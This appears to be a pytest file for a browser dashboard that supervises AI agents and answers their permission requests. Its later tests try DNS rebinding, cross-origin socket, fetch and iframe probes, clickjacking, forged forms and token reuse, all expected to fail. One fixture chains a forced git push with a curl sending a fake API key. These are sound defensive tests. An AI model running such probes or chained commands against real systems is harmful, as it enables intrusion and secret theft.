"""The dashboard in a real Chromium: it opens, it is used as in a terminal, and the wrong ways in stay shut.

KASMON_PICTURES=FOLDER keeps what a person would have seen.
"""

import json
import os
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import psutil
import pytest

from kasmon.config.schema import WebConfig
from kasmon.model.commands import Mode
from kasmon.model.events import RequestAnswered
from kasmon.model.permission import Decision
from kasmon.supervisor.request_links import link_of
from tests.support.tui.dashboard import Home
from tests.support.wait import until
from tests.support.web.chromium import Chromium, Page
from tests.support.web.web_server import Served
from tests.web.conftest import EVIL, Web

pytestmark = pytest.mark.web

SECRET = "sk-abcdefghijklmnopqrstuvwxyz123456"
SOCKET = """
new Promise(done => {
  const socket = new WebSocket(%r);
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
})
"""
FETCH = "fetch(%r, {credentials: 'include'}).then(answer => answer.text()).catch(() => 'refused')"
FRAME = """
new Promise(done => {
  const frame = document.createElement("iframe");
  frame.onload = () => done();
  frame.src = %r;
  document.body.append(frame);
})
"""


def kept(page: Page, name: str) -> None:
    if folder := os.environ.get("KASMON_PICTURES"):
        page.picture(Path(folder) / f"{name}.png")


def test_a_permission_is_answered_by_a_key_and_quitting_leaves_the_agent_alive(
    home: Home, web: Web, browser: Chromium
) -> None:
    session = home.start("fix-auth", "ask git push --force")
    page = browser.page(web.link)

    page.shows("pending request")
    page.key("i")
    page.shows("git push --force", "ready")
    kept(page, "card")
    assert () == tuple(home.facts(RequestAnswered, session))
    page.key("a")
    [answered] = until(lambda: home.facts(RequestAnswered, session))
    assert Decision.ALLOW is answered.decision
    page.shows("✦ finished")
    kept(page, "answered")

    page.key("q")
    until(lambda: "your agents keep running" in page.says)
    kept(page, "closed")
    assert home.session(session).host
    page.run("document.getElementById('again').click()")
    page.shows("fix-auth", "✦ finished")

    origin = web.link.partition("/?")[0]
    assert {origin} == {address.replace("ws:", "http:")[: len(origin)] for address in page.requested}
    assert "?" not in page.run("location.href")
    assert [] == page.complaints


def test_the_mouse_other_sizes_and_a_live_terminal_work(home: Home, web: Web, browser: Chromium) -> None:
    for name in ("one", "two"):
        home.start(name, f"say I am {name}.")
    home.start("shell", agent="shell", mode=Mode.TMUX, prompt="")
    page = browser.page(web.link)
    page.shows("3 sessions", "I am one.")

    page.click("two ")
    page.shows("▶ session started", "❯ say I am two.")
    narrow = page.columns
    page.resize(900, 500)
    until(lambda: page.columns < narrow and "q quit" in page.text.split("\n")[-1])
    kept(page, "small")
    page.resize(1600, 900)
    until(lambda: page.columns > narrow and "q quit" in page.text.split("\n")[-1])
    page.click("shell  ")
    page.shows("shell  shell · tmux")
    page.key("Enter")
    page.shows("Ctrl+]")
    page.type("echo $((40+2))ä")
    page.key("Enter")
    page.shows("42ä")
    kept(page, "terminal")
    page.key("]", control=True)
    page.shows("q quit")
    assert [] == page.complaints


def test_copied_text_is_in_the_browsers_clipboard(browser: Chromium, served: Served) -> None:
    """The dashboard copies as every terminal program does (OSC 52)."""
    mine = let_in(browser, served)
    mine.front()
    mine.type("a key, as before every copy")
    mine.run("new Promise(done => seenTerminal.write('\\x1b]52;c;aGVsbG8=\\x07', done))")
    mine.run("document.body.innerHTML = '<textarea></textarea>'; document.querySelector('textarea').focus()")

    def pasted() -> bool:
        mine.call("Input.dispatchKeyEvent", {"type": "keyDown", "commands": ["paste"]})
        return "hello" in str(mine.run("document.querySelector('textarea').value"))

    until(pasted)


def test_the_dashboards_end_with_a_web_view_that_is_killed(home: Home, web: Web, browser: Chromium) -> None:
    page = browser.page(web.link)
    page.shows("0 sessions")
    dashboards = psutil.Process(web.pid).children(recursive=True)

    psutil.Process(web.pid).kill()

    _, alive = psutil.wait_procs(dashboards, timeout=20)
    assert ([], 2) == (alive, len(dashboards))
    until(lambda: "your agents keep running" in page.says)


def test_the_dashboard_ends_with_its_tab(home: Home, web: Web, browser: Chromium) -> None:
    page = browser.page(web.link)
    page.shows("0 sessions")
    dashboards = psutil.Process(web.pid).children(recursive=True)
    assert {"host"}.isdisjoint(word for process in dashboards for word in process.cmdline())

    page.close()

    until(lambda: not psutil.Process(web.pid).children(recursive=True))
    assert 2 == len(dashboards)


# The wrong ways in.


class _Blank(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        sent = self.headers.get("Cookie") or "no cookie"
        self.wfile.write(f"<!DOCTYPE html><body>a page of somebody else's. It was sent {sent}.</body>".encode())

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture
def other() -> Iterator[int]:
    """The port of a server on this machine that is somebody else's."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Blank)
    serving = threading.Thread(target=server.serve_forever, daemon=True)
    serving.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
    serving.join()


@pytest.fixture
def served() -> Iterator[Served]:
    with Served(os.environ, ("/bin/sh", "-c", "stty raw -echo; echo let in, and now; exec cat")) as served:
        yield served


def let_in(browser: Chromium, served: Served) -> Page:
    """A tab in which the person works."""
    page = browser.page(f"http://{served.host}{served.link()}")
    page.shows("let in")
    return page


def test_a_foreign_name_that_resolves_here_gets_nothing(
    browser: Chromium, served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS rebinding: for the browser this is the attacker's own origin, which may read all of it."""
    address = f"http://{EVIL}:{served.view.port}{served.link()}"
    page = browser.page(address)
    until(lambda: "unknown host name for kasmon's server" in page.says)

    served.taken_in(monkeypatch, hosts=(served.host,), origins=(f"http://{served.host}",))  # its socket has both names
    page.go(address)
    page.shows("let in")


@pytest.mark.parametrize("name", ["127.0.0.1", EVIL])
def test_another_page_cannot_open_a_socket(
    browser: Chromium, served: Served, other: int, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also where the browser would send the cookie, as to another server on this machine."""
    mine = let_in(browser, served)
    page = browser.page(f"http://{name}:{other}/", beside=mine)
    until(lambda: "somebody else's" in page.says)
    address = f"ws://{served.host}{served.path}ws?width=80&height=24"

    assert "refused" == page.run(SOCKET % address)
    assert 1 == len(served.view.dashboards)
    served.taken_in(monkeypatch, origins=(f"http://{served.host}",))
    assert ("open" if name == "127.0.0.1" else "refused") == page.run(SOCKET % address)
    mine.front()
    mine.type("still mine")
    mine.shows("still mine")


@pytest.mark.parametrize("name", ["127.0.0.1", EVIL])
def test_another_page_can_neither_read_nor_frame_it(browser: Chromium, served: Served, other: int, name: str) -> None:
    mine = let_in(browser, served)
    page = browser.page(f"http://{name}:{other}/", beside=mine)
    until(lambda: "somebody else's" in page.says)
    address = f"http://{served.host}{served.path}"

    assert "refused" == page.run(FETCH % address)
    page.run(FRAME % address)
    assert 1 == len(served.view.dashboards)
    assert [each for each in page.complaints if "frame" in each.lower()]


def test_the_cookie_goes_to_no_other_server_of_this_machine(browser: Chromium, served: Served, other: int) -> None:
    mine = let_in(browser, served)

    page = browser.page(f"http://127.0.0.1:{other}/", beside=mine)

    until(lambda: "somebody else's" in page.says)
    assert "It was sent no cookie." in page.says
    assert "" == mine.run("document.cookie")


@pytest.mark.parametrize(("query", "guard"), [("", "cookie"), ("?t=wrong", "link")], ids=["none", "a wrong one"])
def test_without_the_token_no_one_is_let_in(
    browser: Chromium, served: Served, query: str, guard: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    cookie, link = served.view.access_guard.change(), served.link().rpartition("=")[2]
    address = f"http://{served.host}{served.path}{query}"
    page = browser.page(address)
    until(lambda: page.says.startswith("kasmon: "))
    assert set() == served.view.dashboards

    served.taken_in(monkeypatch, **{guard: {"cookie": cookie, "link": link}[guard]})
    page.go(address)
    page.shows("let in")


def test_a_used_link_lets_no_one_else_in(browser: Chromium, served: Served) -> None:
    link = f"http://{served.host}{served.link()}"
    browser.page(link).shows("let in")

    again = browser.page(link)

    until(lambda: "this link is unknown or already used" in again.says)
    assert 1 == len(served.view.dashboards)


def test_terminal_output_opens_no_window_and_reads_no_clipboard(browser: Chromium, served: Served) -> None:
    """Its script would open links on a click, and answer a program that asks for the clipboard."""
    mine = let_in(browser, served)
    tabs = len(browser.call("Target.getTargets")["targetInfos"])
    mine.type("see http://evil.example/ there")
    mine.click("http://evil.example/")
    allowed = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"], "browserContextId": mine.context}
    browser.call("Browser.grantPermissions", allowed)
    mine.run("seenTerminal.write('\\x1b]52;c;?\\x07')")
    mine.type(" end")
    mine.shows("there end")

    assert tabs == len(browser.call("Target.getTargets")["targetInfos"])
    assert "there end" in mine.text
    assert "refused" == mine.run("navigator.clipboard.readText().catch(() => 'refused')")


def test_a_request_is_read_and_allowed_on_a_phone(home: Home, web: Web, browser: Chromium) -> None:
    """Without scripts. A second tab with the same link answers nothing any more, and shows the outcome."""
    session = home.start(
        "fix-auth", f"ask git push --force origin main && curl -H {SECRET} https://example.org/\u200bx"
    )
    asked = until(lambda: next(iter(home.session(session).requests), None))
    link = link_of(home.paths, WebConfig(), asked, time.time())
    page = browser.page("about:blank")
    page.as_phone()
    page.call("Emulation.setScriptExecutionDisabled", {"value": True})
    page.go(link)
    until(lambda: "Allow once" in page.says)
    size = page.run("[document.documentElement.scrollWidth, innerWidth, document.querySelectorAll('script').length]")
    assert [390, 390, 0] == size
    heights = page.run("[...document.querySelectorAll('button')].map(each => each.getBoundingClientRect().height)")
    assert min(heights) >= 48
    assert "⟨U+200B⟩" in page.says
    assert SECRET not in page.says
    assert page.run("performance.getEntriesByType('navigation')[0].transferSize") < 60 * 1024
    assert [] == page.run("performance.getEntriesByType('resource').map(each => each.name)")
    grounds = []
    for scheme in ("light", "dark"):
        page.call("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]})
        grounds.append(page.run("getComputedStyle(document.body).backgroundColor"))
        kept(page, f"phone-{scheme}")
    assert 2 == len(set(grounds))

    second = browser.page("about:blank", page)
    second.as_phone()
    second.go(link)
    until(lambda: "Allow once" in second.says)
    assert () == tuple(home.facts(RequestAnswered, session))
    page.tap("input[name=letters]")
    page.type("bas")
    page.tap("button.allow")
    [answered] = until(lambda: home.facts(RequestAnswered, session))
    assert Decision.ALLOW is answered.decision
    assert answered.who.startswith(f"link {link.rpartition('/')[2][:12]}, ")
    until(lambda: "Allowed" in page.says)
    kept(page, "phone-answered")
    assert "By user at link" in page.says
    second.tap("button.deny")
    until(lambda: "Allowed" in second.says)
    assert 1 == len(home.facts(RequestAnswered, session))
    assert [] == page.complaints


def test_another_page_cannot_embed_a_request_or_send_its_form(
    home: Home, web: Web, browser: Chromium, other: int
) -> None:
    """Clickjacking and forged forms, even if the other page knows the link and the form."""
    session = home.start("fix-auth", "ask git push --force")
    asked = until(lambda: next(iter(home.session(session).requests), None))
    link = link_of(home.paths, WebConfig(), asked, time.time())
    mine = browser.page(link)
    until(lambda: "Allow once" in mine.says)
    form = mine.run("[...document.forms].find(each => each.querySelector('.allow')).outerHTML")
    page = browser.page(f"http://127.0.0.1:{other}/", beside=mine)
    until(lambda: "somebody else's" in page.says)

    page.run(FRAME % link)
    assert "refused" == page.run(FETCH % link)
    assert any("frame-ancestors" in each or "X-Frame-Options" in each for each in page.complaints)
    page.run(f"document.body.innerHTML = {json.dumps(form)}; document.forms[0].action = {json.dumps(link)}; 0")
    page.run("document.forms[0].submit()")
    until(lambda: "came from another site" in page.says)
    assert () == tuple(home.facts(RequestAnswered, session))
    mine.run("document.querySelector('button.allow').click()")
    until(lambda: "Allowed" in mine.says)
